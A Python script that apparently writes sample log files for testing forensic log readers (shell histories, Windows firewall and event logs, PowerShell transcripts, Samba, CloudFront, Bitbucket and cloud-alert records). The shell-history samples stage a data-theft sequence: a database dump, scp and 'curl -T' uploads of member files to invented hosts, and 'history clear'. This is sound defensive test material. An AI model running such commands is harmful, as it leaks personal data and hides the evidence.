"""Write the samples of the text-log readers that came later: `python -m tests.readers.make_text_samples`, the same bytes each time.

Hosts, people and addresses are invented (RFC 2606, RFC 5737, RFC 3849).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

HERE = Path(__file__).parent

# ruff: noqa: E501  # log lines are as long as they are


def write(reader: str, sample: str, name: str, data: str | bytes) -> None:
    folder = HERE / reader / sample
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data if isinstance(data, bytes) else data.encode())


def shells() -> None:
    write(
        "linux.shell_history",
        "bash",
        ".bash_history",
        "cd /srv\nls\n#1715817903\nmysqldump members > /tmp/m.sql\n#1715817950\nscp /tmp/m.sql \\\n  backup@198.51.100.7:/tmp/\n#1715818000\n#1715818010\ncp 会員名簿.csv /mnt/usb/\n",
    )
    write(
        "linux.shell_history",
        "fish",
        "fish_history",
        "- cmd: tar czf /tmp/名簿.tgz /srv/share\n  when: 1715817903\n  paths:\n    - /srv/share\n- cmd: curl -T /tmp/名簿.tgz https://files.example.net/\n  when: 1715817960\n- cmd: history clear\n",
    )
    write(
        "linux.shell_history",
        "damaged",
        ".bash_history",
        b"torn \xff\xfe\n#1715817903\nwhoami\n#1715817904\n" + "type 顧客.csv".encode("cp932") + b"\n" + bytes(32),
    )


def apt() -> None:
    first = "\nStart-Date: 2024-05-16  09:05:03\nCommandline: apt-get install -y rclone\nRequested-By: sato (1001)\nInstall: rclone:amd64 (1.60.1+dfsg-2+b5)\nEnd-Date: 2024-05-16  09:05:09\n"
    killed = "\nStart-Date: 2024-05-17  03:00:00\nUpgrade: openssl:amd64 (3.0.11-1, 3.0.13-1)\n"
    write("linux.apt_history", "ordinary", "history.log", first + killed)
    write(
        "linux.apt_history",
        "damaged",
        "history.log",
        b"d-Date: 2024-05-1\n" + first.encode() + "Error: 名前解決に失敗\n".encode() + b"\n\xff\xff" + killed.encode()[:30],
    )


def firewall() -> None:
    head = "#Version: 1.5\r\n#Software: Microsoft Windows Firewall\r\n#Time Format: Local\r\n#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path pid\r\n\r\n"
    rows = [
        "2024-05-16 09:05:03 ALLOW TCP 192.0.2.10 198.51.100.7 51022 443 0 - 0 0 0 - - - SEND 4711",
        "2024-05-16 09:05:04 DROP UDP 192.0.2.77 192.0.2.255 137 137 78 - - - - - - - RECEIVE 4",
        "2024-05-16 09:05:05 ALLOW TCP 2001:db8::10 2001:db8::7 51023 445 0 - 0 0 0 - - - SEND 4",
        "2024-05-16 09:05:06 INFO-EVENTS-LOST - - - - - - - - - - - - 7 - -",
    ]
    write("windows.firewall_log", "ordinary", "pfirewall.log", head + "\r\n".join(rows) + "\r\n")
    write(
        "windows.firewall_log",
        "damaged",
        "pfirewall.log",
        head.encode()
        + rows[0].encode()
        + "\r\n名簿 row\r\n".encode("cp932")
        + b"\0" * 16
        + b"\r\n2024-13-16 09:05:04 DROP UDP 192.0.2.77 192.0.2.255 137 137 78 - - - - - - - RECEIVE 4\r\n"
        + rows[1].encode()[:40],
    )


def event_xml() -> None:
    def event(number: int, user: str, record: int) -> str:
        return (
            '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/>'
            f"<EventID>{number}</EventID><Version>0</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode><Keywords>0x8010000000000000</Keywords>"
            f'<TimeCreated SystemTime="2024-05-16T00:05:0{record % 10}.5000000Z"/><EventRecordID>{record}</EventRecordID><Channel>Security</Channel><Computer>fs01.example.co.jp</Computer></System>'
            f'<EventData><Data Name="TargetUserName">{user}</Data><Data Name="TargetDomainName">EXAMPLE</Data><Data Name="LogonType">3</Data><Data Name="IpAddress">::ffff:192.0.2.10</Data><Data Name="IpPort">51022</Data></EventData></Event>'
        )

    write(
        "windows.event_xml",
        "ordinary",
        "Security.xml",
        '<?xml version="1.0" encoding="utf-8" standalone="yes"?>\n<Events>'
        + event(4625, "sato", 1)
        + event(4624, "鈴木", 2)
        + "</Events>\n",
    )
    write(
        "windows.event_xml",
        "utf16_lines",
        "events.xml",
        ("\ufeff" + event(4625, "sato", 1) + "\r\n" + event(4624, "山田太郎", 2) + "\r\n").encode("utf-16-le"),
    )
    write(
        "windows.event_xml",
        "damaged",
        "Security.xml",
        event(4625, "sato", 1).encode()
        + b"torn <Event>"
        + event(4624, "a", 2).encode()[40:]
        + b"<Event><System><EventID>1</System></Event>"
        + event(4625, "b", 3).encode()
        + b"\xff\xff"
        + event(4625, "c", 4).encode()[:200],
    )


def transcript() -> None:
    stars = "*" * 22
    english = f"\ufeff{stars}\r\nWindows PowerShell transcript start\r\nStart time: 20240516090503\r\nUsername: EXAMPLE\\sato\r\nRunAs User: EXAMPLE\\sato\r\nConfiguration Name: \r\nMachine: PC-0142 (Microsoft Windows NT 10.0.19045.0)\r\nHost Application: powershell.exe\r\nProcess ID: 6456\r\nPSVersion: 5.1.19041.1682\r\n{stars}\r\n{stars}\r\nCommand start time: 20240516090510\r\n{stars}\r\nPS C:\\Users\\sato> whoami\r\nexample\\sato\r\n{stars}\r\nCommand start time: 20240516090600\r\n{stars}\r\nPS C:\\Users\\sato> Copy-Item \\\\fs01\\share\\members.csv E:\\\r\n{stars}\r\nWindows PowerShell transcript end\r\nEnd time: 20240516091000\r\n{stars}\r\n"
    japanese = f"\ufeff{stars}\r\nWindows PowerShell トランスクリプト開始\r\n開始時刻: 20240516090503\r\nユーザー名: EXAMPLE\\佐藤\r\n実行ユーザー: EXAMPLE\\佐藤\r\n構成名: \r\nコンピューター: PC-0142 (Microsoft Windows NT 10.0.19045.0)\r\nホスト アプリケーション: powershell.exe\r\nプロセス ID: 6456\r\n{stars}\r\nPS C:\\Users\\佐藤> Get-Content .\\会員名簿.csv\r\n氏名,住所\r\n{stars}\r\nWindows PowerShell トランスクリプト終了\r\n終了時刻: 20240516091000\r\n{stars}\r\n"
    write("windows.powershell_transcript", "ordinary", "PowerShell_transcript.PC-0142.abc.20240516090503.txt", english)
    write("windows.powershell_transcript", "japanese", "PowerShell_transcript.PC-0142.abd.20240516090503.txt", japanese)
    write(
        "windows.powershell_transcript",
        "cut",
        "PowerShell_transcript.PC-0142.abe.20240516090503.txt",
        english.encode()[:700] + b"\xff\xfe" + bytes(16),
    )


def lines_by_mapping() -> None:
    auth = "[2024/05/16 09:05:03.024, 2] ../../auth/auth_log.c:647(log_authentication_event_human_readable)\n  Auth: [SMB2,(null)] user [EXAMPLE]\\[{user}] at [Thu, 16 May 2024 09:05:0{n}.023984 UTC] with [NTLMv2] status [{status}] workstation [PC-0142] remote host [ipv4:192.0.2.10:4489{n}] mapped to [EXAMPLE]\\[{user}]. local host [ipv4:192.0.2.5:445] \n"
    write(
        "linux.samba_auth",
        "ordinary",
        "log.smbd",
        auth.format(user="sato", n=3, status="NT_STATUS_WRONG_PASSWORD")
        + auth.format(user="鈴木", n=4, status="NT_STATUS_OK")
        + "  torn\n",
    )
    pop = '2024-05-16T00:05:03.514Z,000000000000000{n},{n},192.0.2.25:110,198.51.100.7:5557{n},{user},193,21,69,auth, PLAIN,"R=""{answer}"";Msg=""{user}"""\n'
    write(
        "mail.exchange_pop",
        "ordinary",
        "POP320240516-1.LOG",
        "#Software: Microsoft Exchange Server\n"
        + pop.format(n=1, user="sato", answer="-ERR Authentication failure: unknown user name or bad password.")
        + pop.format(n=2, user="sato", answer="OK")
        + "名簿\n",
    )
    front = "2024-05-16\t00:05:0{n}\tNRT57-P2\t703\t198.51.100.7\tGET\td111111abcdef8.cloudfront.net\t/{path}\t{status}\t-\tcurl/7.81.0\tid={n}\t-\tMiss\tKmR4hhhnlZKNn0D_LvkWhAqvWvBsUqySq8f_GOoAPP3k8R8fw==\twww.example.jp\thttps\t62\t0.113\t-\tTLSv1.3\tTLS_AES_128_GCM_SHA256\tMiss\tHTTP/2.0\t-\t-\t51754\t0.113\tMiss\ttext/csv\t20\t-\t-\n"
    write(
        "web.cloudfront",
        "ordinary",
        "E123.2024-05-16-00.abc",
        front.format(n=1, path="members.csv", status=200)
        + front.format(n=2, path="%E5%90%8D%E7%B0%BF.csv", status=403)
        + "torn\n",
    )
    bucket = '198.51.100.7,192.0.2.1 | https | o@9K7Z3NNx6x3112x{n} | {user} | 2024-05-16 09:05:0{n},838 | "GET /git/APP/members.git/info/refs HTTP/1.1" | "" "git/2.44.0" | {status} | 13 | 90211 | {labels} | 101 | tmpqqw |\n'
    write(
        "web.bitbucket_access",
        "ordinary",
        "atlassian-bitbucket-access.log",
        bucket.format(n=1, user="sato", status=200, labels="clone, cache:miss")
        + bucket.format(n=2, user="-", status=401, labels="-")
        + "名簿\n",
    )
    audit = (
        '198.51.100.7 | {event} | {user} | 171581790{n}000 | APP/members | {{"name":"{name}"}} | @8KJQAGx969x538x0 | 6ywzi{n}\n'
    )
    write(
        "cloud.bitbucket_audit",
        "ordinary",
        "atlassian-bitbucket-audit.log",
        audit.format(event="UserLoggedInEvent", user="sato", n=1, name="a")
        + audit.format(event="ProjectPermissionGrantedEvent", user="admin", n=2, name="名簿")
        + "torn\n",
    )


def jsons() -> None:
    def rows(*objects: Mapping[str, object]) -> str:
        return "\n".join(json.dumps(each, ensure_ascii=False) for each in objects) + "\n"

    zoom = {
        "action": "Batch Update",
        "category_type": "User",
        "operator": "admin@example.co.jp",
        "time": "2024-05-16T00:05:03Z",
    }
    write(
        "cloud.zoom_operations",
        "ordinary",
        "zoom.json",
        rows(
            {**zoom, "operation_detail": "Change Role  - sato@example.co.jp: from Member to Admin"},
            {**zoom, "action": "Delete", "operation_detail": "Delete User 鈴木 suzuki@example.co.jp"},
        )
        + "torn\n",
    )
    transfer = {
        "START_TIME": "2024-05-16 00:05:03.000 Z",
        "SOURCE_CLOUD": "AWS",
        "SOURCE_REGION": "AP-NORTHEAST-1",
        "TARGET_CLOUD": "AZURE",
        "TARGET_REGION": "会社外",
        "TRANSFER_TYPE": "COPY",
    }
    write(
        "cloud.snowflake_transfer",
        "ordinary",
        "transfer.json",
        rows({**transfer, "BYTES_TRANSFERRED": 61235879}, {**transfer, "BYTES_TRANSFERRED": 0}) + "{torn\n",
    )
    hub = {
        "SchemaVersion": "2018-10-08",
        "AwsAccountId": "111122223333",
        "CreatedAt": "2024-05-16T00:05:03Z",
        "ProductName": "GuardDuty",
        "Severity": {"Label": "HIGH"},
        "Title": "Unusual S3 download",
        "Description": "名簿 was read",
        "Resources": [{"Id": "arn:aws:s3:::members"}],
        "Action": {"AwsApiCallAction": {"RemoteIpDetails": {"IpAddressV4": "198.51.100.7"}}},
    }
    write("cloud.aws_security_hub", "ordinary", "findings.json", rows(hub, {**hub, "CreatedAt": "torn"}) + "torn\n")
    alert = {
        "id": "a1",
        "tenantId": "t1",
        "title": "Password Spray",
        "description": "複数のアカウント",
        "severity": "high",
        "serviceSource": "microsoftDefenderForIdentity",
        "createdDateTime": "2024-05-16T00:05:03.7Z",
        "evidence": [{"userAccount": {"userPrincipalName": "sato@example.co.jp"}}],
    }
    write("cloud.microsoft_graph_alerts", "ordinary", "alerts.json", rows(alert, {**alert, "createdDateTime": None}) + "torn\n")


if __name__ == "__main__":
    for make in (shells, apt, firewall, event_xml, transcript, lines_by_mapping, jsons):
        make()
